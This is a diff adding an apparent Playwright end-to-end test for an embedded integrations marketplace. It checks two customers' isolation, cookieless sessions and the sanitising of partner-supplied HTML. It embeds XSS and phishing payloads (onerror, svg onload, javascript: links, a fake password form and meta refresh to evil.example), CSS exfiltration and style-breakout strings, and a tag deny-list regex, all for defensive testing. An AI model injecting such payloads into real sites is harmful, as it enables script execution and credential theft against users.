@@ -1,0 +1,206 @@
+// Walks through what two customers of a vendor do in one browser, and what people try who wish them ill: see embed_together_test.go.
+import assert from "node:assert/strict";
+
+import { api } from "./embed_api.mjs";
+import { chromium, flags, look, press, problemsOf, sizes } from "./look.mjs";
+
+const { HOST, CHROMIUM, VENDOR, BASE, MARKETPLACE } = process.env;
+
+const hostile = `<p class="slogan" style="position:fixed;inset:0" onclick="window.ran=1">All your tools</p><svg onload="window.ran=1"><a xlink:href="javascript:window.ran=1">x</a></svg>
+  <a id="way" href="javascript:window.ran=1">way</a><iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0; url=https://evil.example"><base href="https://evil.example/">
+  <form action="https://evil.example"><input name="password"><button>Sign in</button></form><style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
+  <object data="x"></object><math><mtext><img src=x onerror="window.ran=1"></mtext></math>`;
+
+// arrange makes a marketplace as its builder does: a text, categories within each other, packages and a link.
+async function arrange() {
+  const all = (await api("GET", "/templates")).map((t) => [t.Name, t.Id]);
+  const id = (name) => all.find(([n]) => n === name)[1];
+  const cards = [
+    { Kind: "Text", Description: `<h2>Welcome</h2>${hostile}` },
+    { Kind: "Category", Title: "Shops", Cards: [{ Kind: "Category", Title: "Orders", Cards: [
+      { Kind: "Package", Title: "Orders to Acme", Description: hostile, TemplateIds: [id("Orders to Acme")], Tags: ["orders"], AutoStart: true, AskName: true, CompleteMessage: `<p>Enjoy</p>${hostile}` }] }] },
+    { Kind: "Package", Title: "Who is at Acme", TemplateIds: [id("Who is at Acme")], Tags: ["people"], Single: true },
+    { Kind: "Link", Title: "Ask us", Url: "https://stockroom.example/ask" },
+  ];
+  await api("PUT", `/marketplaces/${MARKETPLACE}`, { Cards: cards, Search: true, TagFilter: true, HeaderHtml: hostile, Columns: 2 });
+  await api("PUT", "/branding", { Name: "Harbour", HeaderHtml: hostile, FooterHtml: hostile, Css: ".slogan { color: #b00020 }" });
+  for (const url of ["javascript:window.ran=1", "data:text/html,x", "//evil.example"]) {
+    await api("PUT", `/marketplaces/${MARKETPLACE}`, { Cards: [{ Kind: "Link", Title: "x", Url: url }] }, undefined, 400);
+  }
+  for (const css of [".x { background: url(https://evil.example/?) }", "@import 'https://evil.example/x.css';", "input[value^=a] { color: red }", "html { display: none } .x { position: fixed }", ".x { content: 'Sign in' }",
+    ".x { color: red } </style><script>window.ran=1</script>", "@font-face { src: url(x) }", ".x { behavior: expression(1) }"]) {
+    await api("PUT", "/branding", { Css: css }, undefined, 400);
+  }
+}
+
+// harmless: nothing of the hostile HTML has run, loads or asks anything, or lies over the page.
+async function harmless(frame, name) {
+  await frame.getByText("All your tools").first().waitFor();
+  const found = await frame.locator("html").evaluate(() => ({
+    ran: window.ran, base: document.baseURI.startsWith("https://evil"), shown: getComputedStyle(document.body).display,
+    bad: [...document.querySelectorAll(".partner *")].filter((e) => /^(script|iframe|object|form|input|button|style|link|meta|base|svg|math|embed)$/i.test(e.tagName) || [...e.attributes].some((a) => /^on|^style$/i.test(a.name) || /^\s*javascript:/i.test(a.value))).map((e) => e.outerHTML),
+    over: [...document.querySelectorAll(".partner, .partner *")].filter((e) => getComputedStyle(e).position === "fixed").length,
+  }));
+  assert.deepEqual(found, { ran: undefined, base: false, shown: "block", bad: [], over: 0 }, name);
+}
+
+// fits waits until a frame of the host page is as tall as what is in it.
+async function fits(page, frame, iframe, name) {
+  const tall = await page.waitForFunction(async ([f, want]) => Math.abs(f.getBoundingClientRect().height - want) < 2,
+    [await iframe.elementHandle(), await frame.locator("html").evaluate((r) => Math.ceil(r.getBoundingClientRect().height))], { timeout: 5000 }).catch(() => null);
+  assert.ok(tall, `${name}: the frame is not as tall as its page`);
+}
+
+async function signIn(page, user) {
+  await page.goto(HOST);
+  await page.getByLabel("Who are you?").selectOption(user);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.getByText("Signed in as").waitFor();
+}
+
+async function atVendor(page, click) {
+  const [vendor] = await Promise.all([page.waitForEvent("popup"), click()]);
+  await vendor.locator("input[name=login]").fill("dana");
+  await vendor.locator("input[name=password]").fill("whatever");
+  await vendor.locator("button[type=submit]").click();
+  await vendor.getByText("Authorize").first().waitFor();
+  await Promise.all([vendor.waitForEvent("close"), vendor.locator("button[type=submit]").click()]);
+}
+
+// preauthenticated installs through LAUNCH what needs the vendor's own product, whose credential comes with the address, and an
+// application where the customer signs in.
+async function preauthenticated(page, account) {
+  const { LaunchUrl } = await api("POST", `/accounts/${account}/launch`, {
+    Tags: ["orders"], DisplayDescriptions: true, InlineOAuth: false, CompleteParameter: "own", ConnectorAuthentications: [{ Name: "Stockroom", AuthValue: `key of ${account}` }],
+  });
+  await page.evaluate((url) => { Integrations.open({ url, mode: "modal", title: "LAUNCH" }).result.then((r) => { window.launched = r; }); }, LaunchUrl);
+  const frame = page.frameLocator('dialog iframe[title="LAUNCH"]');
+  await frame.getByRole("heading", { name: "Orders to Acme" }).waitFor(); // a single one is not chosen from a list
+  const steps = await frame.locator(".steps li").allInnerTexts();
+  assert.deepEqual(steps.map((s) => s.replace(/^[\d✓\s]+/, "")), ["Acme", "Done"], "nobody is asked for what the vendor has");
+  await frame.getByLabel("Address").fill(VENDOR);
+  await atVendor(page, () => frame.getByRole("button", { name: "Sign in to Acme" }).click());
+  await frame.getByText("Acme is connected").waitFor();
+  await frame.getByRole("button", { name: "Start integration" }).click();
+  await page.waitForFunction(() => window.launched);
+  const result = await page.evaluate(() => window.launched);
+  assert.deepEqual([result.accountApiId, result.status, result.completeParameter, result.errors], [account, "Active", "own", []]);
+  const connectors = await api("GET", "/account/connectors", undefined, account);
+  assert.deepEqual(connectors.map((c) => [c.Name, c.IsPartnerIntegrationConnector, c.Authenticated]).sort(), [["Acme", false, true], ["Stockroom", true, true]]);
+  assert.ok(!JSON.stringify(connectors).includes("key of"), "the credential is not read back");
+  await page.keyboard.down("Escape"); // which the frame hears, where the focus is; the key comes up when it is gone
+  await page.locator("dialog").waitFor({ state: "detached" });
+  await page.keyboard.up("Escape");
+}
+
+// shelf goes through the arranged marketplace: tags, search, categories and back, a named install that is taken back.
+async function shelf(page, size) {
+  const iframe = page.locator("#marketplace iframe");
+  const market = page.frameLocator("#marketplace iframe");
+  await market.getByRole("heading", { name: "Add-ons" }).waitFor();
+  await harmless(market, "the marketplace");
+  await fits(page, market, iframe, "the shelf");
+  await press(page, market.getByRole("button", { name: "people", exact: true }));
+  await market.getByRole("button", { name: "Open: Shops" }).waitFor({ state: "detached" });
+  await fits(page, market, iframe, "what has a tag");
+  await press(page, market.getByRole("button", { name: "All", exact: true }));
+  await market.getByRole("searchbox").fill("orders to");
+  await market.getByRole("heading", { name: "Orders to Acme" }).waitFor();
+  await market.getByRole("searchbox").fill("");
+  await press(page, market.getByRole("button", { name: "Open: Shops" }));
+  await press(page, market.getByRole("button", { name: "Open: Orders" }));
+  await market.getByRole("heading", { name: "Orders", exact: true }).waitFor();
+  await look(page, `together-category-${size.name}`, "body");
+  await press(page, market.getByRole("button", { name: /: Orders to Acme$/ }).last());
+  const dialog = market.getByRole("dialog");
+  await dialog.waitFor();
+  const place = await dialog.evaluate((d) => ({ top: d.getBoundingClientRect().top, bottom: d.getBoundingClientRect().bottom, page: document.documentElement.getBoundingClientRect().height }));
+  assert.ok(place.top >= 0 && place.bottom <= place.page + 1, `the dialog is within the frame: ${JSON.stringify(place)}`);
+  await dialog.getByLabel("Name").fill("Second shop");
+  await look(page, `together-name-${size.name}`, "body");
+  await press(page, dialog.getByRole("button", { name: "Next" }));
+  await market.getByRole("heading", { name: "Second shop" }).waitFor();
+  const top = await iframe.evaluate((f) => f.getBoundingClientRect().top);
+  assert.ok(top > -1, `the set-up is seen from its beginning: ${top}`);
+  await press(page, market.getByRole("button", { name: "Cancel" }));
+  await market.getByRole("heading", { name: "Add-ons" }).or(market.getByRole("heading", { name: "Orders", exact: true })).first().waitFor();
+  await fits(page, market, iframe, "the shelf again");
+}
+
+// ownScreen is the host's: a switch that calls the API, and what the customer then sees in ORBIT.
+async function ownScreen(page, account) {
+  await page.reload();
+  await press(page, page.getByRole("button", { name: "Stop: Orders to Acme" }));
+  await page.getByRole("button", { name: "Start: Orders to Acme" }).waitFor();
+  const [cycle] = await api("GET", "/cycles", undefined, account);
+  assert.equal(cycle.Status, "Paused");
+}
+
+// beside: two customers' pages in one browser, each in a window of its own.
+async function beside(context) {
+  const pages = {}, installs = {};
+  for (const account of ["aster", "birch"]) {
+    const { OrbitUrl } = await api("POST", `/accounts/${account}/orbit`, {});
+    pages[account] = await context.newPage();
+    await pages[account].goto(OrbitUrl);
+    assert.ok(!/token|session/.test(pages[account].url()), pages[account].url());
+    const again = await context.newPage();
+    const answer = await again.goto(OrbitUrl);
+    assert.equal(answer.status(), 403, "a link opens once");
+    await again.getByText("403 – Forbidden: Access is denied.").waitFor();
+    await again.close();
+  }
+  for (let round = 0; round < 2; round++) {
+    for (const [account, page] of Object.entries(pages)) {
+      await page.reload();
+      await page.getByRole("button", { name: /: Orders to Acme$/ }).first().waitFor();
+      const said = await page.evaluate(async () => (await fetch("/embed/data/orbit", { headers: { "X-Embed-Visit": new URLSearchParams(location.search).get("visit") } })).json());
+      assert.deepEqual([said.Visitor.AccountAPIID, said.Integrations.length], [account, 1], "each window keeps to its customer");
+      installs[account] = said.Integrations[0].ID;
+      if (round === 0) continue;
+      const other = await page.evaluate(async (id) => (await fetch(`/embed/data/setup/${id}`, { headers: { "X-Embed-Visit": new URLSearchParams(location.search).get("visit") } })).status, installs[account === "aster" ? "birch" : "aster"]);
+      assert.equal(other, 404, "another customer's set-up is not there");
+    }
+  }
+  for (const page of Object.values(pages)) await page.close();
+}
+
+// withoutCookies: the frame's browser keeps nothing of ours, and the session stands in no address.
+async function withoutCookies(page) {
+  const frame = () => page.frames().find((f) => f.url().startsWith(BASE) && f.url().includes("/launch/marketplace/"));
+  await page.frameLocator("#marketplace iframe").getByRole("heading", { name: "Add-ons" }).waitFor();
+  assert.ok(!/session=|token=|#/.test(frame().url()), frame().url());
+  const state = await frame().evaluate(async () => {
+    const visit = new URLSearchParams(location.search).get("visit");
+    const bare = await fetch(`/embed/data/orbit`, { headers: { "X-Embed-Visit": visit } });
+    let stored = "denied";
+    try { stored = String(sessionStorage.length); } catch { /* as said */ }
+    return [bare.status, stored];
+  });
+  assert.deepEqual(state, [403, "denied"], "no cookie is sent and nothing stored: the page's memory alone has the session");
+}
+
+const browser = await chromium.launch({ executablePath: CHROMIUM, args: [...flags, "--test-third-party-cookie-phaseout"] });
+try {
+  await arrange();
+  for (const size of sizes) {
+    const account = size.name === "wide" ? "aster" : "birch";
+    const context = await browser.newContext({ viewport: { width: size.width, height: size.height } });
+    const page = await context.newPage();
+    const problems = problemsOf(page, /status of (40[034])/);
+    await signIn(page, size.name === "wide" ? "dana" : "sam");
+    await withoutCookies(page);
+    await preauthenticated(page, account);
+    await page.reload();
+    await shelf(page, size);
+    await ownScreen(page, account);
+    await look(page, `together-host-${size.name}`, "body");
+    assert.deepEqual(problems, [], "no page reports an error");
+    await context.close();
+  }
+  const context = await browser.newContext();
+  await beside(context);
+  await context.close();
+} finally {
+  await browser.close();
+}
